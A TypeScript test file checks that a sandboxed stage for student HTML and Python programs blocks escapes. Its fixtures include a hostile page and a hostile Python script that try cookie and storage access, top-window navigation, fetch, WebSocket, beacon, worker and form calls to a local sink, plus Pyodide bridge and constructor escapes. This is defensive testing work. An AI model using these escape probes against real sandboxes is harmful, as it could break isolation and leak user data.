import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromiumMissing, openBrowser, openPage, type View } from "../support/browser";
import { type StageSchool, startSink, startStage, startStageSchool } from "../support/stage-school";

const EN: View = { locale: "en", scheme: "light", width: 1280 };

/** Each attempt prints its name and what came of it; "reached" must never be said. */
const page = (sink: string, app: string) => `<!doctype html><canvas></canvas><script>
const attempts = {
  parentDocument: () => parent.document.title,
  cookie: () => document.cookie = "a=b",
  storage: () => localStorage.setItem("a", "b"),
  session: () => sessionStorage.length,
  database: () => { indexedDB.open("x"); },
  topNavigation: () => { top.location = "${sink}/top"; throw new Error("asked"); },
  open: () => { if (!open("${sink}/open")) throw new Error("no window"); },
  fetchSink: () => fetch("${sink}/fetch"),
  fetchApp: () => fetch("${app}/api/health"),
  fetchRelative: () => fetch("/api/runs", { credentials: "include" }),
  request: () => new Promise((ok, no) => { const r = new XMLHttpRequest(); r.open("GET", "${sink}/xhr"); r.onload = ok; r.onerror = no; r.send(); }),
  image: () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = "${sink}/image"; setTimeout(no, 1500); }),
  socket: () => new Promise((ok, no) => { const s = new WebSocket("${sink.replace("http", "ws")}"); s.onopen = ok; s.onerror = no; }),
  beacon: () => { if (!navigator.sendBeacon("${sink}/beacon", "x")) throw new Error("no"); throw new Error("queued"); },
  script: () => new Promise((ok, no) => { const s = document.createElement("script"); s.src = "${sink}/script.js"; s.onload = ok; s.onerror = no; document.body.append(s); }),
  style: () => new Promise((ok, no) => { const s = document.createElement("link"); s.rel = "stylesheet"; s.href = "${sink}/style.css"; s.onload = ok; s.onerror = no; document.head.append(s); setTimeout(no, 1500); }),
  frame: () => { const f = document.createElement("iframe"); f.src = "${sink}/frame"; document.body.append(f); throw new Error("added"); },
  form: () => { const f = document.createElement("form"); f.action = "${sink}/form"; document.body.append(f); f.submit(); throw new Error("sent"); },
  worker: () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${sink}/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? ok() : no(); w.onerror = no; }),
  serviceWorker: () => navigator.serviceWorker.register("/stage/python.js"),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    let end = "reached";
    try { await attempt(); } catch { end = "refused"; }
    console.log(name + ": " + end);
  }
  console.log("all tried");
  location = "${sink}/self";
})();
requestAnimationFrame(function draw() { document.querySelector("canvas").getContext("2d").fillRect(0, 0, 9, 9); requestAnimationFrame(draw); });
</script>`;

const python = (sink: string) => `import turtle, sys, gc
def attempt(name, what):
    try:
        print(name + ":", "reached" if what() else "refused")
    except BaseException as error:
        print(name + ": refused", type(error).__name__)
def import_js():
    import js
    return hasattr(js, "fetch") or hasattr(js, "document")
def import_pyodide_js():
    import pyodide_js
    return hasattr(pyodide_js, "globals")
def run_js():
    from pyodide.code import run_js
    return run_js("self.fetch('${sink}/run_js'); 1")
def constructor():
    import _stage
    make = _stage.host.now.constructor
    return make("return fetch('${sink}/constructor')")()
def http():
    import urllib.request
    return urllib.request.urlopen("${sink}/urllib", timeout=3).read()
def pyfetch():
    from pyodide.http import pyfetch
    from pyodide.ffi import run_sync
    return run_sync(pyfetch("${sink}/pyfetch"))
def open_url():
    from pyodide.http import open_url
    return open_url("${sink}/open_url")
def socket():
    import socket
    s = socket.create_connection(("127.0.0.1", ${"PORT"}), 3)
    return s
def micropip():
    import micropip
    return True
def subprocess():
    import subprocess
    return subprocess.run(["ls"])
for name, what in list(globals().items()):
    if callable(what) and getattr(what, "__module__", "") == "__main__" and name != "attempt":
        attempt(name, what)
proxies = [thing for thing in gc.get_objects() if type(thing).__name__ == "JsProxy"]
print("proxies with a way out:", sum(hasattr(thing, "document") or hasattr(thing, "fetch") for thing in proxies))
print("all tried")
t = turtle.Turtle()
for i in range(10000):
    t.forward(1)
    t.left(1)
`;

let school: StageSchool;
let sink: Awaited<ReturnType<typeof startSink>>;
let browser: Browser;

beforeAll(async () => {
  if (chromiumMissing) return;
  sink = await startSink();
  const port = new URL(sink.url).port;
  // The app's own address is not known yet: a path on it is tried as well, which needs none.
  school = await startStageSchool([], {
    "hostile.html": page(sink.url, "http://127.0.0.1:1"),
    "hostile.py": python(sink.url).replaceAll("PORT", port),
    "endless.html":
      "<!doctype html><canvas></canvas><script>setTimeout(() => { for (;;); }, 500); requestAnimationFrame(() => {});</script>",
  });
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await school?.close();
  await sink?.close();
});

describe("a hostile program on the stage (needs chromium)", () => {
  it.skipIf(chromiumMissing).each(["hostile.html", "hostile.py"])(
    "%s reaches neither the page nor the network",
    async (name) => {
      const { context, page } = await openPage(browser, school.url, EN);
      const opened: string[] = [];
      context.on("page", (other) => opened.push(other.url()));
      const address = await school.ask(name);
      await page.goto(address);
      const cookies = JSON.stringify(await context.cookies());
      const stage = await startStage(page, address);
      const output = stage.getByRole("region", { name: "Output" });
      await output.getByText("all tried").waitFor({ timeout: 60_000 });
      await page.waitForTimeout(1000);
      const words = (await output.textContent()) ?? "";
      expect(words.split("\n").filter((line) => line.includes("reached"))).toEqual([]);
      if (name.endsWith(".py")) expect(words).toContain("proxies with a way out: 0");
      expect(sink.heard).toEqual([]);
      expect(opened).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(address);
      expect(JSON.stringify(await context.cookies())).toBe(cookies);
      expect(await page.evaluate(() => localStorage.getItem("a"))).toBeNull();
      await context.close();
    },
  );

  it.skipIf(chromiumMissing)("an endless loop in a page's script leaves our page alive", async () => {
    const { context, page } = await openPage(browser, school.url, EN);
    const stage = await startStage(page, await school.ask("endless.html"));
    await page.waitForTimeout(1500);
    await stage.getByRole("button", { name: "Stop" }).click({ timeout: 5000 });
    await stage.getByText("The program has ended.").waitFor();
    await context.close();
  });

  it.skipIf(chromiumMissing)("the frames are closed also for who opens them by themselves", async () => {
    for (const path of ["/stage/frame", "/stage/document"]) {
      const { headers } = await fetch(`${school.url}${path}`);
      const policy = headers.get("content-security-policy") ?? "";
      expect(policy).toContain("sandbox allow-scripts");
      expect(policy).toContain("default-src 'none'");
      expect(policy).not.toContain("connect-src");
      expect(policy).toContain("frame-ancestors 'self'");
    }
  });
});
